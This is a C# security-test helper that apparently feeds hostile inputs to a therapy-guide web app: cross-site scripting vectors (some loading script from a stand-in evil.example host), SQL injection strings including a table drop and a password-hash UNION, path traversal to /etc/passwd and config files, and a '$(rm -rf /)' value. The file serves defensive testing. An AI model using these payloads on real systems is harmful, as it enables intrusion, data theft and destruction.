using System.Text;

namespace TherapyGuide.Tests.Security;

/// <summary>Hostile text, built from lists: each notation of script injection, query syntax, traversal and junk.</summary>
public static class HostilePayloads
{
    private static readonly string[] _scripts =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " \tjavascript:alert(1)",
        "java\u0000script:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "&#x6A;avascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">click</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<base href=\"//evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<input onfocus=alert(1) autofocus>",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        "<img src=\"x\" onerror=\"alert(1)\"//",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\u003cscript\u003ealert(1)\u003c/script\u003e",
        "＜script＞alert(1)＜/script＞",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](data:text/html,<script>alert(1)</script>)",
        "![x](javascript:alert(1))",
        "![x](x\" onerror=\"alert(1))",
        "<javascript:alert(1)>",
        "[a]: javascript:alert(1)\n\n[click][a]",
        "<div onclick=\"alert(1)\">raw html block</div>",
        "```html\n<script>alert(1)</script>\n```",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "@(1+1) @DateTime.Now @{ throw null; }",
        "<%= 7*7 %>",
        "'';!--\"<XSS>=&{()}",
        "<svg/onload=alert(1)>",
        "<img/src/onerror=alert(1)>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
        "<a href=\"\u0001javascript:alert(1)\">control</a>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex action=javascript:alert(1) type=image>",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><script>alert(1)</script></textarea>",
        "<template><script>alert(1)</script></template>",
        "<select><style></select><img src=x onerror=alert(1)>",
        "<button popovertarget=x formaction=\"javascript:alert(1)\">go</button>",
    ];

    private static readonly string[] _queries =
    [
        "' OR '1'='1",
        "' OR 1=1--",
        "\" OR \"\"=\"",
        "'; DROP TABLE Articles;--",
        "1; DELETE FROM GlossaryTerms",
        "1' UNION SELECT Email, PasswordHash FROM AspNetUsers--",
        "%' --",
        "\\'",
        "''''''''",
        "admin'--",
        "1 AND (SELECT COUNT(*) FROM sqlite_master) > 0",
        "'||(SELECT sqlite_version())||'",
        "NEAR(lupus car)",
        "NEAR(lupus car, 2",
        "lupus OR",
        "AND OR NOT",
        "\"unterminated",
        "\"\"",
        "*",
        "lupus*",
        "^lupus",
        "Title:lupus",
        "{Title Body}:lupus",
        "-lupus",
        "+",
        "(((",
        ")))",
        "lupus NOT",
        "NEAR/2",
        "car-t",
        "a:b:c",
        "SearchEntries MATCH 'x'",
        "rank",
        "bm25(SearchEntries)",
    ];

    private static readonly string[] _paths =
    [
        "../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "%252e%252e%252f",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "....//....//etc/passwd",
        "..%c0%af..%c0%afetc",
        "%00",
        "file:///etc/passwd",
        "C:\\Windows\\System32",
        "\\\\server\\share",
        "a/b",
        "a%2Fb",
        "a%5Cb",
        ".",
        "..",
        "~",
        "articles/../admin",
        "CON",
        "con.txt",
        "index.html",
        ".git/config",
        "appsettings.json",
        "web.config",
    ];

    private static readonly string[] _numbers =
    [
        "-1", "0", "00001", " 1", "1 ", "1.5", "1e10", "0x10", "2147483647", "2147483648", "-2147483649",
        "99999999999999999999999", "NaN", "Infinity", "null", "undefined", "true", "[]", "{}", "١", "½", "",
    ];

    private static readonly string[] _junk =
    [
        "\u0000", "a\u0000b", "\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008", "\u000b\u000c\u000e\u000f\u001b\u001f\u007f",
        "\r\nX-Injected: 1", "\r\n\r\n<html>injected</html>", "line\rbreak", "\t\t\t",
        "\u202e\u0645\u0631\u062d\u0628\u0627 reversed", "\u200b\u200c\u200d\ufeff", "\ufffe\uffff", "\ud800", "\udfff", "x\ud83d",
        "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇", "İıŞş", "ÆØÅ ünïcödé", "😀😀😀", "ｌｕｐｕｓ", "%s%s%s%n%x", "{0}{1}", "%", "%%", "%zz", "&", "&&&&", "=", "==",
        "+", "?", "#", "#fragment", ";", "|", "`", "$(rm -rf /)", "\\", "/", "//", ":", "a:b",
        new string('a', 201), new string('a', 1_001), new string('é', 2_000), string.Concat(Enumerable.Repeat("😀", 1_000)),
        string.Join(' ', Enumerable.Repeat("lupus", 300)), new string('<', 500), new string('[', 2_000), new string('*', 1_000),
        new string('a', 100_000), string.Concat(Enumerable.Repeat("> ", 5_000)), string.Concat(Enumerable.Repeat("- ", 5_000)),
        string.Concat(Enumerable.Repeat("[", 5_000)) + string.Concat(Enumerable.Repeat("]", 5_000)),
        // The probe's slow glossary pattern (a spelling of alternating spaces and hyphens; a long run of hyphens)
        // and its slow preview (a table 5,000 columns wide).
        "a" + string.Concat(Enumerable.Repeat(" -", 40)) + " b", new string('-', 20_000) + "x",
        "|" + string.Concat(Enumerable.Repeat(" a |", 5_000)) + "\n|" + string.Concat(Enumerable.Repeat("---|", 5_000)) + "\n|" + string.Concat(Enumerable.Repeat(" 1 |", 5_000)),
    ];

    /// <summary>Invalid UTF-8, as raw bytes: a lone continuation, a truncated sequence, overlong forms, a surrogate, bytes never valid.</summary>
    public static IReadOnlyList<byte[]> InvalidUtf8 { get; } =
    [
        [0x80], [0xC3, 0x28], [0xE2, 0x82], [0xF0, 0x9F, 0x98], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80],
        [0xF8, 0x88, 0x80, 0x80, 0x80], [0xFE], [0xFF, 0xFE, 0xFD], [0x3C, 0xC0, 0xBC, 0x73, 0x63, 0x72, 0x69, 0x70, 0x74, 0x3E],
    ];

    /// <summary>Every text payload.</summary>
    public static IReadOnlyList<string> Text { get; } = [.. _scripts, .. _queries, .. _paths, .. _numbers, .. _junk];

    /// <summary>Payloads for places that take a number or an identifier (ids, versions, pages): numbers first, then the rest.</summary>
    public static IReadOnlyList<string> Identifiers { get; } = [.. _numbers, .. _paths, .. _queries, .. _scripts.Take(20), .. _junk.Take(30)];

    /// <summary>Payloads for addresses: traversal and encoded slashes first, then the rest (not the very long ones).</summary>
    public static IReadOnlyList<string> Paths { get; } = [.. _paths, .. _scripts, .. _queries, .. _numbers, .. _junk.Where(j => j.Length < 1_500)];

    /// <summary>A payload as a form or query value: invalid UTF-16 (lone surrogates) goes as the bytes an encoder would send.</summary>
    public static string Escape(string payload) =>
        string.Concat(Encoding.UTF8.GetBytes(payload).Select(b => IsUnreserved(b) ? ((char)b).ToString() : $"%{b:X2}"));

    public static string Escape(byte[] bytes) => string.Concat(bytes.Select(b => IsUnreserved(b) ? ((char)b).ToString() : $"%{b:X2}"));

    private static bool IsUnreserved(byte b) => b is (>= (byte)'a' and <= (byte)'z') or (>= (byte)'A' and <= (byte)'Z') or (>= (byte)'0' and <= (byte)'9') or (byte)'-' or (byte)'.' or (byte)'_' or (byte)'~';
}
